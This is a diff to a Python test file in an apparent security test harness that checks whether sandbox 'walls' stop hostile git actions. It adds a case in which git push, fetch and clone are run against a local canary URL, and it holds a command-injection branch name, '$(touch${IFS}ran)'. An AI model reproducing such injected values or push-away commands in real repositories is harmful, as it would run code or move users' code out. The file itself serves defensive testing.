@@ -6,9 +6,9 @@ import shlex
 from collections.abc import Sequence
 from pathlib import Path
 
-from octavo.trial.attack import NO_OCTAVO, NO_SANDBOX, Case, Turn
+from octavo.trial.attack import ACCEPTED, NO_OCTAVO, NO_SANDBOX, Case, Turn
 from octavo.trial.attack.scene import Scene
-from octavo.trial.attack.walls import HARDENED, NO_SHELL, OUTSIDE, PROTECTED, VOUCHED
+from octavo.trial.attack.walls import ASKED_REMOTE, HARDENED, NO_SHELL, OUTSIDE, PROTECTED, VOUCHED
 from octavo.trial.attack.world import run_git
 
 BRANCH = "$(touch${IFS}ran)"
@@ -146,7 +146,24 @@ def _elsewhere_harm(scene: Scene) -> str:
     return "a commit was made in another repository" if scene.token in log else ""
 
 
+# ---- A-41 ----
+
+
+def _pushes_away(scene: Scene) -> Sequence[Turn]:
+    url = f"http://127.0.0.1:{scene.canaries.tcp}/{scene.token}.git"
+    scripts = (
+        f"git push -q {url} HEAD:refs/heads/main",
+        f"git fetch -q {url}",
+        f"git ls-remote {url}",
+        f"git clone -q {url} there",
+    )
+    mark = scene.shell(f"echo {scene.mark}")
+    return [[*(scene.shell(script) for script in scripts), mark]]
+
+
 CASES = (
+    Case(attack="A-41", way="pushes to a repository of its own", wall=ASKED_REMOTE,
+         bait=_pushes_away, harm=lambda scene: scene.heard(), down=ACCEPTED),
     Case(attack="A-67", way="commits where hooks, filters and helpers wait", wall=HARDENED,
          prepare=_hostile, bait=_commits, harm=_ran, down=NO_SANDBOX),
     Case(attack="A-67", way="looks at a repository whose helpers lead out", wall=OUTSIDE,
